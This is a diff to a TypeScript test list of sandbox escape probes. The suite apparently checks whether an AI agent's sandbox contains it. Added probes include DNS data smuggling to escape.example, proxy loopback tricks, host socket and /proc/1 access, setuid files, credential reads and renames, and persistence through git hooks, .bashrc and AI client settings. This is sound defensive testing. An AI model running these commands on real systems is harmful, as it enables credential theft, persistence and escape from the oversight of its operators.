@@ -53,6 +53,7 @@ export const ESCAPE_WAYS: readonly EscapeWay[] = [
     "a new address on the interface": "ip addr add 192.0.2.9/24 dev lo 2>/dev/null && echo ESCAPED",
     "a new interface": "ip link add d0 type dummy 2>/dev/null && echo ESCAPED",
     "the network namespace of another process": call(308, 268, "3, 0x40000000"),
+    "a name that carries data": "getent hosts c2VjcmV0.escape.example >/dev/null && echo ESCAPED",
   }),
   ...group("proxy", {
     "CONNECT to loopback": connects("127.0.0.1:$PORT"),
@@ -103,6 +104,25 @@ export const ESCAPE_WAYS: readonly EscapeWay[] = [
     ),
     "HTTP/2 without TLS": `${proxied("PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")}; ${proxied("GET http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\n\\r\\n")}; :`,
     "a trace through the proxy": `${proxied("TRACE http://127.0.0.1:$PORT/ HTTP/1.1\\r\\nHost: 127.0.0.1:$PORT\\r\\n\\r\\n")}; ${proxied("OPTIONS * HTTP/1.1\\r\\nHost: 127.0.0.1:$PORT\\r\\n\\r\\n")}; :`,
+    "CONNECT to loopback with a zone": `${connects("[::1%%25lo]:$PORT")}; ${connects("[fe80::1%%25lo]:$PORT")}; :`,
+    "CONNECT to loopback without brackets": `${connects("::1:$PORT")}; ${connects("[::]:$PORT")}; ${connects("0:$PORT")}; :`,
+    "CONNECT to wide digits": connects("\\xef\\xbc\\x91\\xef\\xbc\\x92\\xef\\xbc\\x97.0.0.1:$PORT"),
+    "CONNECT to an encoded name": `${connects("%%6cocalhost:$PORT")}; ${connects("127.0.0.1%%00.example.com:$PORT")}; ${connects("xn--localhost-:$PORT")}; :`,
+    "CONNECT to the machine's own name": `${connects("$MACHINE:$PORT")}; ${connects("$MACHINE.local:$PORT")}; :`,
+    "CONNECT to a port beyond the last": `${connects("127.0.0.1:$((PORT + 65536))")}; ${connects("127.0.0.1:-$PORT")}; ${connects("127.0.0.1:0$PORT")}; :`,
+    "CONNECT to a login": `${connects("127.0.0.1:22")}; ${connects("github.com:22")}; ${connects("ssh.github.com:443")}; :`,
+    "a plain request for https": proxied(
+      "GET https://127.0.0.1:$PORT/ HTTP/1.1\\r\\nHost: 127.0.0.1:$PORT\\r\\n\\r\\n",
+    ),
+    "a Host header over two lines": proxied(
+      "GET http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\n 127.0.0.1:$PORT\\r\\n\\r\\n",
+    ),
+    "two Host headers": proxied(
+      "GET http://127.0.0.1:$PORT/ HTTP/1.1\\r\\nHost: example.com\\r\\nHost: 127.0.0.1:$PORT\\r\\n\\r\\n",
+    ),
+    "a WebSocket to loopback": proxied(
+      "GET ws://127.0.0.1:$PORT/ HTTP/1.1\\r\\nHost: 127.0.0.1:$PORT\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n",
+    ),
     "the file scheme": proxied("GET file:///etc/passwd HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"),
   }),
   ...group("sockets", {
@@ -121,6 +141,10 @@ export const ESCAPE_WAYS: readonly EscapeWay[] = [
     X11: 'ls /tmp/.X11-unix 2>/dev/null | grep -q . && echo ESCAPED; [ -n "$DISPLAY" ] && echo ESCAPED',
     Wayland:
       '[ -n "$WAYLAND_DISPLAY" ] && echo ESCAPED; ls /run/user 2>/dev/null | grep -q . && echo ESCAPED',
+    "the system's log and manager":
+      'for s in /dev/log /run/systemd/journal/socket /run/systemd/notify /run/systemd/private /run/user/$UID/systemd/private; do [ -S $s ] && echo ESCAPED; done; [ -n "$NOTIFY_SOCKET" ] && echo ESCAPED; :',
+    "agents of keys and sound":
+      'for s in $REAL/.gnupg/S.gpg-agent /run/user/$UID/gnupg/S.gpg-agent /run/user/$UID/pulse/native /run/user/$UID/pipewire-0; do [ -S $s ] && echo ESCAPED; done; [ -n "$XDG_RUNTIME_DIR$GPG_AGENT_INFO" ] && echo ESCAPED; :',
     "the name service cache":
       "[ -S /run/nscd/socket ] && echo ESCAPED; [ -S /run/systemd/resolve/io.systemd.Resolve ] && echo ESCAPED",
   }),
@@ -144,6 +168,12 @@ export const ESCAPE_WAYS: readonly EscapeWay[] = [
       "for fd in /proc/self/fd/*; do n=$(basename $fd); [ \"$n\" -gt 2 ] && readlink $fd | grep -qE 'socket|CANARY|canary|svc-run' && echo ESCAPED; done; :",
     "files of process 1":
       "cat /proc/1/mem /proc/1/map_files/* 2>/dev/null | head -c 1 | grep -q . && echo ESCAPED",
+    "descriptors of process 1":
+      "for fd in /proc/1/fd/*; do readlink $fd 2>/dev/null | grep -qE 'socket|canary|svc-run' && (echo x >> $fd) 2>/dev/null && echo ESCAPED; done; :",
+    "the program of process 1":
+      'perl -e \'open(my $f, "+<", "/proc/1/exe") and print "ESCAPED\\n"\'; perl -e \'open(my $f, "<", "/proc/1/exe") or exit; open(my $g, "+<", "/proc/self/fd/" . fileno($f)) and print "ESCAPED\\n"\'; :',
+    "the own user map":
+      "(echo '0 0 1' > /proc/self/uid_map) 2>/dev/null && echo ESCAPED; (echo allow > /proc/self/setgroups) 2>/dev/null && echo ESCAPED; perl -e '$) = \"0 0\"; $) = 0; print \"ESCAPED\\n\" if $) =~ /^0/'; :",
     "the namespaces of process 1": "nsenter -t 1 -m -n true 2>/dev/null && echo ESCAPED",
     "the place of an open file":
       "for fd in 0 1 2; do ls /proc/self/fd/$fd/../canary 2>/dev/null && echo ESCAPED; done; ls /proc/self/root/$OUT /proc/self/cwd/../../outside 2>/dev/null | grep -q canary && echo ESCAPED; :",
@@ -162,6 +192,8 @@ export const ESCAPE_WAYS: readonly EscapeWay[] = [
     "any sysctl":
       "find /proc/sys -type f -writable 2>/dev/null | head -n 1 | grep -q . && (for f in $(find /proc/sys -type f -writable 2>/dev/null); do (cat $f > $f) 2>/dev/null && echo ESCAPED && break; done); :",
     "sysrq-trigger": "(echo h > /proc/sysrq-trigger) 2>/dev/null && echo ESCAPED",
+    "the file systems of the kernel":
+      "find /sys /sys/kernel/debug /sys/fs/bpf -maxdepth 2 -type f -writable 2>/dev/null | grep -q . && echo ESCAPED; :",
     "kernel memory": `${reads("/dev/mem")}; ${reads("/dev/kmem")}; ${reads("/proc/kcore")}; :`,
     "kernel messages": `${reads("/dev/kmsg")}; dmesg 2>/dev/null | grep -q . && echo ESCAPED; :`,
     "a kernel module": call(313, 273, '3, "", 0'),
@@ -202,6 +234,10 @@ export const ESCAPE_WAYS: readonly EscapeWay[] = [
     capabilities: "grep -E '^Cap(Eff|Prm|Bnd)' /proc/self/status | grep -qv 0000000000000000 && echo ESCAPED",
     "new privileges": "grep -q '^NoNewPrivs:.*0' /proc/self/status && echo ESCAPED",
     "another owner": "touch owned && chown 0:0 owned 2>/dev/null && echo ESCAPED; rm -f owned; :",
+    "a set-user-ID file for later":
+      'cp /bin/true setid; chmod 4755 setid 2>/dev/null; chmod 2755 setid 2>/dev/null; perl -e \'use Fcntl; sysopen(my $f, "setid-open", O_CREAT | O_WRONLY, 06755); syscall((POSIX::uname())[4] eq "x86_64" ? 85 : 1000, "setid-creat", 06755); syscall(452, -100, "setid", 06755, 0)\' -MPOSIX; find . -maxdepth 1 -perm /6000 | grep -q setid && echo ESCAPED; :',
+    "a directory that hands its group on":
+      "mkdir -m 2775 setgid 2>/dev/null; [ -g setgid ] && echo ESCAPED; rm -rf setgid; :",
     "a file capability":
       "cp /bin/true c && setcap cap_sys_admin+ep c 2>/dev/null && echo ESCAPED; rm -f c; :",
   }),
@@ -211,6 +247,9 @@ export const ESCAPE_WAYS: readonly EscapeWay[] = [
     "a hard link to a file outside": `ln $OUT/canary hard 2>/dev/null && echo ESCAPED; :`,
     "a path with dots": `${reads("$PWD/../canary")}; ${reads("$PWD/../../outside/canary")}; :`,
     "a link that changes while it is read": `(for i in 1 2 3 4 5 6 7 8 9; do ln -sfn $OUT race; ln -sfn $PWD race; done) & for i in 1 2 3 4 5 6 7 8 9; do ${reads("race/canary")}; done; wait; rm -f race; :`,
+    "links that were there before": `${reads("to-outside/canary")}; ${writes("to-outside/canary")}; ${writes("to-file")}; (echo x > to-nothing) 2>/dev/null && [ -e $OUT/made ] && echo ESCAPED; :`,
+    "a credential by another name":
+      "ln .env copy 2>/dev/null; cp --reflink=auto .env copy 2>/dev/null; mv .env env 2>/dev/null; mv sub sub2 2>/dev/null; grep -q canary copy env sub2/.env.local 2>/dev/null && echo ESCAPED; mv sub2 sub 2>/dev/null; rm -f copy; :",
     "private keys": `${reads("$REAL/.ssh/id_ed25519")}; ls -A $REAL/.ssh 2>/dev/null | grep -q . && echo ESCAPED; :`,
     "credentials of the cloud": `${reads("$REAL/.aws/credentials")}; ${reads("$REAL/.config/gcloud/credentials.db")}; :`,
     "credentials in the workspace": `${reads(".env")}; ${reads("sub/.env.local")}; :`,
@@ -228,7 +267,16 @@ export const ESCAPE_WAYS: readonly EscapeWay[] = [
       "mv .git away 2>/dev/null && echo ESCAPED; rm -rf .git/hooks 2>/dev/null; [ -d .git/hooks ] || echo ESCAPED; :",
     "git's common directory":
       "mkdir -p evil/hooks && printf '[core]\\n\\tfsmonitor = touch $OUT/later\\n' > evil/config && echo ../evil > .git/commondir; echo held",
+    "a hook that is a link": `${writes("scripts/pre-commit")}; ${writes(".git/hooks/pre-commit")}; :`,
+    "a hook behind a renamed directory":
+      "mv scripts moved-away 2>/dev/null && mkdir scripts && echo 'touch $OUT/later' > scripts/pre-commit; echo held",
+    "a configured hook behind a renamed directory":
+      "mv tools tools2 2>/dev/null && mkdir -p tools/hooks && echo 'touch $OUT/later' > tools/hooks/post-merge; echo held",
+    "a start-up file of a shell":
+      "echo 'touch $OUT/later' > .bashrc; echo 'touch $OUT/later' > .profile; echo held",
     "git's attributes": `${writes(".git/info/attributes")}; :`,
+    "attributes behind a renamed directory":
+      "mv .git/info .git/info2 2>/dev/null && mkdir .git/info && echo '* filter=evil' > .git/info/attributes; echo held",
     "settings of a client":
       "(mkdir -p .claude && echo '{}' > .claude/settings.json) 2>/dev/null && echo ESCAPED; (echo x > .codex/config.toml) 2>/dev/null && echo ESCAPED; :",
     "a server for clients": writes(".mcp.json"),
